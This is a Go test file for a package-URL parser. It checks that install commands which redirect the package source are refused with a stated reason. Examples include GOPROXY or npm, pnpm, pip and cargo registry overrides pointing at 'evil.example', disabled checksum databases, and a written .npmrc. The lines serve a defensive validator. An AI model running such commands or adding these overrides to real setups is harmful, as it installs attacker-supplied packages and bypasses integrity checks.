package purl

import (
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestSettingsThatLeadElsewhere: whoever follows such a line gets another package
// than the one that would be checked, so the line is refused and says why.
func TestSettingsThatLeadElsewhere(t *testing.T) {
	for _, line := range []string{
		"env GOPROXY=evil.example GONOSUMDB=* go get a.org/b@v1.0.0",
		"GONOSUMDB=* go get a.org/b@v1.0.0",
		"GOPRIVATE=* go install a.org/b@v1.0.0",
		"GOFLAGS=-modfile=x go get a.org/b@v1.0.0",
		"export GOPROXY=https://evil.example && go get a.org/b@v1.0.0",
		"go env -w GOPROXY=https://evil.example && go get a.org/b@v1.0.0",
		"go get -insecure a.org/b@v1.0.0",
		"npm config set registry https://evil.example && npm i foo@1.0.0",
		"npm config set @x:registry https://evil.example; npm i @x/foo@1.0.0",
		"npm c set registry=https://evil.example && npm i foo@1.0.0",
		"npm set registry=https://evil.example && npm i foo@1.0.0",
		"yarn config set npmRegistryServer https://evil.example && yarn add foo@1.0.0",
		"pnpm config set registry https://evil.example && pnpm add foo@1.0.0",
		"pnpm add foo@1.0.0 --config.registry=https://evil.example",
		"npm i --globalconfig=x foo@1.0.0",
		"npm i --userconfig x foo@1.0.0",
		"pip config set global.index-url https://evil.example && pip install foo==1.0",
		"pip install --trusted-host evil.example foo==1.0",
		`echo "registry=https://evil.example" > .npmrc && npm i foo@1.0.0`,
		"cargo add serde --config 'source.crates-io.replace-with=\"evil\"'",
	} {
		_, err := Parse(line)
		var refused *Refused
		require.True(t, errors.As(err, &refused), line)
		assert.Equal(t, RefusedQualifier, refused.Kind, line)
		assert.Contains(t, refused.Detail, "changes where the package comes from", line)
	}
	for _, line := range []string{
		"CGO_ENABLED=0 go install a.org/b@v1.0.0", "GOFLAGS=-mod=mod go get a.org/b@v1.0.0", "export NODE_ENV=production && npm i foo@1.0.0",
		"npm config set fund false && npm i foo@1.0.0", "npm i --prefix x foo@1.0.0", "go env && go get a.org/b@v1.0.0", "npm set audit=false; npm i foo@1.0.0",
	} {
		_, err := Parse(line)
		assert.NoError(t, err, line)
	}
}
